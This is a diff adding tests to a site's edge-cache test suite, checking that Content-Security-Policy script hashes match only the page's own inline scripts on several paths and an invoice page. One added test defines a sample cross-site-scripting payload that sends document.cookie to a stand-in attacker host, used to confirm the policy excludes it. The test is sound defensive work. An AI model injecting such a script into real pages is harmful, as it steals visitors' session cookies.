@@ -3,6 +3,8 @@ import { describe, expect, it } from "vitest";
 import { eventDate } from "../support/event-dates";
 import { validBooking, validQuote } from "../support/form-data";
 import { postForm } from "./forms-support";
+import { componentScripts } from "~/inline-scripts";
+import { siteScriptHashes } from "~/security.server";
 import { workerForFile } from "./worker";
 
 const worker = workerForFile();
@@ -47,6 +49,25 @@ describe("HTML from the edge cache", () => {
     expect(scriptSources(policy).filter((source) => source.startsWith("'sha256-")).sort()).toEqual([...new Set(hashes)].sort());
   });
 
+  it("allows every script of the site's pages, and no script injected into one", async () => {
+    const injected = "<script>fetch('https://evil.example/?' + document.cookie)</script>";
+    for (const path of ["/", "/pbseopage", "/quickquote", "/packages"]) {
+      const response = await worker.fetch(path);
+      const html = await response.text();
+      const own = inlineScriptHashes(html);
+      expect(scriptSources(response.headers.get("Content-Security-Policy") ?? "").filter((source) => source.startsWith("'sha256-")).sort(), path).toEqual([...new Set(own)].sort());
+      // The page's hashing, fed the page with a script added: the Worker's boot script is the one
+      // before Remix's context (the test's own build of it is not the Worker's minified text).
+      const bootScript = /<script>((?:(?!<\/script>)[\s\S])*)<\/script><script>window\.__remixContext = /.exec(html)?.[1] ?? "";
+      expect(bootScript, path).not.toBe("");
+      const withInjection = html.replace("</h1>", `</h1>${injected}`);
+      expect(withInjection, path).toContain(injected);
+      const allowed = await siteScriptHashes(withInjection, [...componentScripts, bootScript]);
+      expect(allowed.sort(), path).toEqual([...new Set(own)].sort());
+      expect(allowed, path).not.toContain(inlineScriptHashes(injected)[0]);
+    }
+  });
+
   it("never caches a page with a query string, which may carry a search or an availability answer", async () => {
     for (let request = 0; request < 2; request++) {
       const response = await worker.fetch("/packages?from=ad");
@@ -70,6 +91,10 @@ describe("HTML from the edge cache", () => {
       expect(cacheStatus(response)).toBe("BYPASS");
       expect(response.headers.get("Cache-Control")).toBe("private, no-store");
     }
+    // The client's own data is in the page's scripts, and they are still the site's own.
+    const page = await worker.fetch(invoice);
+    const sources = scriptSources(page.headers.get("Content-Security-Policy") ?? "").filter((source) => source.startsWith("'sha256-"));
+    expect(sources.sort()).toEqual([...new Set(inlineScriptHashes(await page.text()))].sort());
   });
 
   it("never caches a form sent back with its errors, and a later visit gets the empty form", async () => {
